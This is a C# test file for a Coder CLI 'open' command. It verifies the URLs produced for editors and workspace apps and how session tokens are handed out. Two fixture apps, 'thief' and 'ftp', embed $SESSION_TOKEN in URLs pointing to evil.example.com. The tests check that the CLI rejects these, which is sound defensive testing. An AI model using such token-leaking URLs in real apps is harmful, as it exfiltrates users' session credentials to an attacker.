using Coder.Cli.Tests.Infrastructure;
using Coder.Sdk;

namespace Coder.Cli.Tests.Commands;

public sealed class OpenCommandTests : CliTest
{
    public override async Task InitializeAsync()
    {
        await base.InitializeAsync();
        WorkspaceApp[] apps =
        [
            new() { Slug = "code-server", Url = "http://localhost:13337" },
            new() { Slug = "wide", Subdomain = true, SubdomainName = "wide--main--demo--ada" },
            new() { Slug = "wider", Subdomain = true, SubdomainName = $"wider--demo--{new string('a', 60)}" },
            new() { Slug = "top", Command = "top" },
            new() { Slug = "docs", External = true, Url = "https://docs.example.com/" },
            new() { Slug = "cursor", External = true, Url = "cursor://open?token=$SESSION_TOKEN" },
            new() { Slug = "thief", External = true, Url = "https://evil.example.com/?t=$SESSION_TOKEN" },
            new() { Slug = "ftp", External = true, Url = "ftp://me:$SESSION_TOKEN@evil.example.com/" },
        ];
        var agent = Samples.Agent with { Apps = apps, ExpandedDirectory = "/home/ada" };
        var build = Samples.Build(WorkspaceTransition.Start, WorkspaceStatus.Running, ProvisionerJobStatus.Succeeded);
        Server.On(
            "GET",
            "users/me/workspace/demo",
            Samples.Workspace with { LatestBuild = build with { Resources = [build.Resources[0] with { Agents = [agent] }] } },
            CoderJsonContext.Default.Workspace);
        Server.On(
            "GET",
            "regions",
            new() { Regions = [new() { Name = "primary", PathAppUrl = Server.Url, WildcardHostname = "*.apps.example.com" }] },
            CoderJsonContext.Default.RegionsResponse);
        Server.On("POST", "users/me/keys", """{"key":"id-secret"}""", 201);
    }

    [Theory]
    [InlineData("", "&folder=%2Fhome%2Fada")]
    [InlineData("src/my project", "&folder=%2Fhome%2Fada%2Fsrc%2Fmy%20project")]
    [InlineData("/srv", "&folder=%2Fsrv")]
    public async Task VS_Code_is_given_the_workspace_and_a_folder(string directory, string folder)
    {
        var result = await RunAsync(["open", "vscode", "demo", .. directory.Length == 0 ? Array.Empty<string>() : [directory]]);

        result.ExitCode.ShouldBe(0, result.Error);
        result.Output.ShouldBe($"vscode://coder.coder-remote/open?owner=ada&workspace=demo&agent=main{folder}&url={Uri.EscapeDataString(Server.Url)}\n");
        Server.Changes.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_session_for_the_editor_is_made_when_asked_for() =>
        (await RunAsync("open", "vscode", "demo", "--generate-token")).Output.ShouldEndWith("&token=id-secret\n");

    [Theory]
    [InlineData("code-server", "{server}/@ada/demo.main/apps/code-server/")]
    [InlineData("wide", "http://wide--main--demo--ada.apps.example.com/")]
    [InlineData("wider", "{server}/@ada/demo.main/apps/wider/")]
    [InlineData("top", "{server}/@ada/demo.main/terminal?app=top")]
    [InlineData("docs", "https://docs.example.com/")]
    [InlineData("cursor", "cursor://open?token=id-secret")]
    public async Task An_app_has_the_URL_of_its_kind(string slug, string url) =>
        (await RunAsync("open", "app", "demo", slug)).Output.ShouldBe(url.Replace("{server}", Server.Url, StringComparison.Ordinal) + "\n");

    [Theory]
    [InlineData("thief")]
    [InlineData("ftp")]
    public async Task What_is_no_editor_does_not_get_the_session(string slug)
    {
        var result = await RunAsync("open", "app", "demo", slug);

        result.ExitCode.ShouldBe(1);
        result.Error.ShouldContain($"The app \"{slug}\" wants your session, which only editors get.\n");
        result.Error.ShouldContain("begins with vscode, vscode-insiders, cursor, windsurf, kiro, jetbrains");
        Server.Changes.ShouldBeEmpty();
    }

    [Fact]
    public async Task An_app_or_a_region_that_is_not_there_is_named_with_those_that_are()
    {
        (await RunAsync("open", "app", "demo", "nope")).Error.ShouldContain("has no app \"nope\".\n  It has: code-server, wide, wider, top, docs, cursor, thief, ftp\n");
        (await RunAsync("open", "app", "demo", "wide", "--region", "mars")).Error.ShouldContain("There is no region \"mars\".\n  There are: primary\n");
    }
}
